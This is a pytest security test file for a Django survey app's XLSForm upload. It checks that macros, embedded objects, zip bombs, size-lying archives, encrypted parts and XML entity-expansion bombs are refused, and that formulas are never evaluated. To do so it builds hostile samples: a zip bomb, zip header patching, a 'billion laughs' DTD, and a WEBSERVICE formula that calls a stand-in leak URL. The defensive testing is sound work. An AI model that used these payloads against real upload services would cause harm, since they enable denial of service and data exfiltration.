"""Uploaded XLSForms are parsed safely: size limit, no macros or embedded objects, no zip bombs, no
entity expansion, nothing evaluated; each refusal names its reason and creates nothing."""

from __future__ import annotations

import io
import struct
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from surveys.models import Questionnaire
from surveys.xlsform import XLSFormError, xlsform_import
from surveys.xlsform.workbook import check_file
from tests.factories import SurveyFactory
from tests.security.conftest import TeamWorld
from tests.xlsform_helpers import SURVEY_HEADER, YES_NO, make_xlsform

pytestmark = pytest.mark.django_db

SHEET = "xl/worksheets/sheet1.xml"


def valid_form() -> bytes:
    return make_xlsform([SURVEY_HEADER, ["select_one yes_no", "consent", "Agree?", "Согласны?"]], YES_NO)


def rebuilt(
    file_bytes: bytes, *, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
):
    """``file_bytes`` with some parts replaced or added (deflated, as Excel writes them)."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(file_bytes)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            target.writestr(member.filename, replace.get(member.filename, source.read(member.filename)))
        for name, data in add.items():
            target.writestr(name, data)
    return out.getvalue()


def problems(file_bytes: bytes, filename: str = "form.xlsx") -> list[str]:
    survey = SurveyFactory(languages=["en", "ru"], default_language="en")
    with pytest.raises(XLSFormError) as refused:
        xlsform_import(survey=survey, file_bytes=file_bytes, filename=filename)
    assert not Questionnaire.objects.filter(survey=survey).exists()
    return refused.value.messages


def test_a_plain_form_passes_the_checks():
    assert check_file(valid_form(), "form.xlsx") == []


def test_a_file_over_the_limit_is_refused_naming_both_sizes(settings):
    settings.VOLNA_XLSFORM_MAX_BYTES = 4_000
    file_bytes = valid_form() + b"\0" * 4_000

    assert problems(file_bytes) == [
        f"the file is {len(file_bytes):,} bytes; the limit is 4,000 bytes",
    ]


@pytest.mark.parametrize("filename", ["form.xlsm", "form.XLTM", "addin.xlam"])
def test_macro_enabled_file_types_are_refused(filename):
    assert problems(valid_form(), filename) == ["macro-enabled workbooks are refused; save the form as .xlsx"]


def test_a_vba_project_inside_an_xlsx_is_refused():
    bomb = rebuilt(valid_form(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 attribute VB_Name"})

    assert problems(bomb) == ["the workbook contains macros; save the form as a plain .xlsx"]


def test_a_macro_enabled_content_type_is_refused_even_without_a_vba_part():
    form = valid_form()
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        types = archive.read("[Content_Types].xml").replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")

    assert problems(rebuilt(form, replace={"[Content_Types].xml": types})) == [
        "the workbook contains macros; save the form as a plain .xlsx"
    ]


@pytest.mark.parametrize("part", ["xl/embeddings/oleObject1.bin", "xl/activeX/activeX1.xml"])
def test_embedded_objects_and_activex_controls_are_refused(part):
    assert problems(rebuilt(valid_form(), add={part: b"payload"})) == [
        "the workbook contains embedded objects or ActiveX controls; a form needs only its sheets: copy them "
        "into a new workbook"
    ]


def test_a_highly_compressed_part_is_refused_before_it_is_unpacked():
    # 30 MB of zeros packs into about 30 KB: under the total limit, far beyond any spreadsheet's ratio
    bomb = rebuilt(valid_form(), add={"xl/media/zeros.xml": b"\0" * 30_000_000})
    assert len(bomb) < 100_000

    tracemalloc.start()
    refused = problems(bomb)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert len(refused) == 1
    assert refused[0].startswith('the part "xl/media/zeros.xml" unpacks to ')
    assert refused[0].endswith("times its packed size, far more than any spreadsheet (a zip bomb?)")
    assert peak < 10_000_000  # never unpacked


def test_a_workbook_declaring_too_much_data_in_all_is_refused(settings):
    settings.VOLNA_XLSFORM_MAX_BYTES = 100_000  # may declare up to 2 MB unpacked
    parts = {f"xl/media/part{n}.xml": bytes(range(256)) * 4_000 for n in range(3)}  # 3 × 1 MB, packs well

    assert problems(rebuilt(valid_form(), add=parts)) == [
        "the workbook unpacks to far more data than a form can hold (a zip bomb?)"
    ]


def test_a_workbook_of_too_many_parts_is_refused():
    form = valid_form()
    parts = {f"xl/media/p{n}.xml": b"x" for n in range(600)}
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        total = len(archive.infolist()) + 600

    assert problems(rebuilt(form, add=parts)) == [f"the workbook holds {total} parts; a form needs far fewer"]


def patched_headers(file_bytes: bytes, name: str, *, local: int, central: int, value: int, fmt: str) -> bytes:
    """``file_bytes`` with one field of part ``name``'s local header (at offset ``local``) and central
    directory record (at offset ``central``) set to ``value``: how a hostile archive is crafted."""
    data = bytearray(file_bytes)
    with zipfile.ZipFile(io.BytesIO(file_bytes)) as archive:
        header_offset = archive.getinfo(name).header_offset
        position = archive.start_dir
    struct.pack_into(fmt, data, header_offset + local, value)
    while data[position : position + 4] == b"PK\x01\x02":
        name_length, extra, comment = struct.unpack_from("<HHH", data, position + 28)
        if bytes(data[position + 46 : position + 46 + name_length]) == name.encode():
            struct.pack_into(fmt, data, position + central, value)
        position += 46 + name_length + extra + comment
    return bytes(data)


def test_a_part_that_lies_about_its_size_fails_its_check_without_growing():
    # the sheet really unpacks to 30 MB but declares 2,000 bytes: the ratio check cannot see it
    huge_sheet = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    )
    huge_sheet += b" " * 30_000_000 + b"</worksheet>"
    honest = rebuilt(valid_form(), replace={SHEET: huge_sheet})
    # the uncompressed size: at offset 22 of the local header, 24 of the central record
    liar = patched_headers(honest, SHEET, local=22, central=24, value=2_000, fmt="<I")
    assert check_file(liar, "form.xlsx") == []

    tracemalloc.start()
    refused = problems(liar)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert len(refused) == 1 and refused[0].startswith("the workbook could not be read")
    assert peak < 10_000_000


def test_an_encrypted_part_is_refused():
    # the general purpose flags: at offset 6 of the local header, 8 of the central record; bit 0 = encrypted
    encrypted = patched_headers(valid_form(), SHEET, local=6, central=8, value=0x1, fmt="<H")

    assert problems(encrypted) == ["the workbook is encrypted; save it again without a password"]


def test_an_xml_entity_expansion_is_refused_quickly():
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'.encode()
            for n in range(1, 10)
        )
        + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    started = time.monotonic()

    refused = problems(rebuilt(valid_form(), replace={SHEET: laughs}))

    assert refused == [
        "the workbook's XML declares entities or a DTD, which spreadsheets never do (an XML bomb?); save the "
        "form again from a spreadsheet program"
    ]
    assert time.monotonic() - started < 5


def test_a_formula_is_never_evaluated_or_imported_as_a_formula():
    # the English label typed as a formula (with no cached value, as a script writes it)
    form = make_xlsform([SURVEY_HEADER, ["select_one yes_no", "consent", "Agree?", "Согласны?"]], YES_NO)
    formula = b'<c r="C2" t="str"><f>WEBSERVICE("http://example.invalid/leak")&amp;2+3</f></c>'
    with zipfile.ZipFile(io.BytesIO(form)) as archive:
        sheet = archive.read(SHEET)
    start = sheet.index(b'<c r="C2"')
    end = sheet.index(b"</c>", start) + len(b"</c>")
    survey = SurveyFactory(languages=["en", "ru"], default_language="en")

    draft = xlsform_import(
        survey=survey,
        file_bytes=rebuilt(form, replace={SHEET: sheet[:start] + formula + sheet[end:]}),
        filename="form.xlsx",
    )

    # read as an empty cell: neither the formula's text nor a computed value becomes the label
    assert draft.questions.get(name="consent").label == {"ru": "Согласны?"}


def test_the_admin_upload_lists_the_reason_and_creates_no_version(team_a: TeamWorld):
    url = reverse("admin:surveys_survey_import", args=[team_a.survey.pk])
    versions = Questionnaire.objects.filter(survey=team_a.survey).count()
    bomb = rebuilt(valid_form(), add={"xl/media/zeros.xml": b"\0" * 30_000_000})

    response = team_a.client.post(url, {"file": SimpleUploadedFile("form.xlsx", bomb)})

    assert response.status_code == 200
    assert "unpacks to" in response.content.decode() and "zip bomb" in response.content.decode()
    assert Questionnaire.objects.filter(survey=team_a.survey).count() == versions


def test_the_admin_upload_names_a_macro_enabled_file_type(team_a: TeamWorld):
    url = reverse("admin:surveys_survey_import", args=[team_a.survey.pk])

    response = team_a.client.post(url, {"file": SimpleUploadedFile("form.xlsm", valid_form())})

    assert response.status_code == 200
    assert "Macro-enabled workbooks are refused" in response.content.decode()
